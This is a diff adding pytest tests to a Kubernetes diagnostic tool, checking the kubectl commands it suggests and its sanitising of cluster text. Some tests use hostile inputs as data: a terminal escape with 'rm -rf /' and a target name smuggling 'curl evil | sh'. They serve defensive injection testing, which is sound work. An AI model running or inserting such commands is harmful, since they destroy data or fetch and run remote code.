@@ -4,7 +4,9 @@ from datetime import timedelta
 
 import pytest
 
-from adapter.doctor.finding import LONGEST, plain
+from adapter.doctor.__main__ import told
+from adapter.doctor.checks import findings
+from adapter.doctor.finding import LONGEST, Report, Unseen, plain
 from adapter.doctor.rights import RIGHTS
 from adapter.doctor.snapshot import CUSTOM, EXTERNAL, Question
 from tests.doctor.conftest import (
@@ -147,7 +149,30 @@ def test_what_a_program_lacks_is_one_finding_with_a_command_that_asks_for_the_fi
     found = one(seen(programs=[adapter], lacking=[(adapter, pods), (adapter, scales)]))
     account = "system:serviceaccount:streamgate:streamgate-adapter"
     assert found.says == f"{account} may not list pods, get deployments/scale.apps"
-    assert found.next == f"kubectl auth can-i list 'pods' -A --as={account}"
+    assert found.next == f"kubectl auth can-i list pods -A --as={account}"
+
+
+def test_the_command_for_a_right_to_one_object_or_to_the_scale_of_anything_is_kubectls() -> None:
+    recommender = program("recommender")
+    update = next(right for right in RIGHTS["recommender"] if right.verb == "update")
+    scale = next(right for right in RIGHTS["recommender"] if right.group == "*")
+    account = "--as=system:serviceaccount:streamgate-recommender:streamgate-recommender"
+    assert one(seen(programs=[recommender], lacking=[(recommender, update)])).next == (
+        "kubectl auth can-i update leases.coordination.k8s.io/streamgate-recommender "
+        f"-n streamgate-recommender {account}"
+    )
+    assert one(seen(programs=[recommender], lacking=[(recommender, scale)])).next == (
+        f"kubectl auth can-i get '*' --subresource=scale -A {account}"
+    )
+
+
+def test_the_command_for_a_certificate_shows_its_dates() -> None:
+    late = Authority().certificate(days=3)
+    found = one(seen(certificates={"streamgate/tls": late}))
+    assert found.next == (
+        "kubectl -n streamgate get secret tls -o go-template='{{index .data \"tls.crt\"}}' "
+        "| base64 -d | openssl x509 -noout -dates"
+    )
 
 
 # ---- rules
@@ -337,6 +362,19 @@ def test_text_of_the_cluster_is_one_line_without_control_characters_and_bounded(
 def test_a_message_of_an_hpa_cannot_speak_to_the_terminal() -> None:
     hostile = condition("ScalingActive", "False", "X", "\x1b]0;owned\x07 \r\n next: rm -rf /")
     assert one(seen(hpas=[hpa("web", conditions=(hostile,))])).says.isprintable()
+
+
+def test_a_target_cannot_add_a_command_to_the_one_that_is_shown() -> None:
+    unable = condition("AbleToScale", "False", "FailedGetScale", "no such target")
+    found = one(seen(hpas=[hpa("web", target="x; curl evil\n| sh", conditions=(unable,))]))
+    assert found.next == "kubectl -n shop get 'deployment/x; curl evil | sh'"
+
+
+def test_all_that_is_printed_is_of_one_line_whatever_names_there_are() -> None:
+    odd = hpa("we\nb\x1b[2J", target="web", conditions=(STARVING,))
+    report = Report({"a\x07": "b\r"}, findings(seen(hpas=[odd, hpa("web")])), [Unseen("x\n", "y\t")])
+    assert len(report.findings) == 2
+    assert all(line.isprintable() for line in told(report))
 
 
 def test_a_snapshots_objects_take_what_the_api_server_leaves_out() -> None:
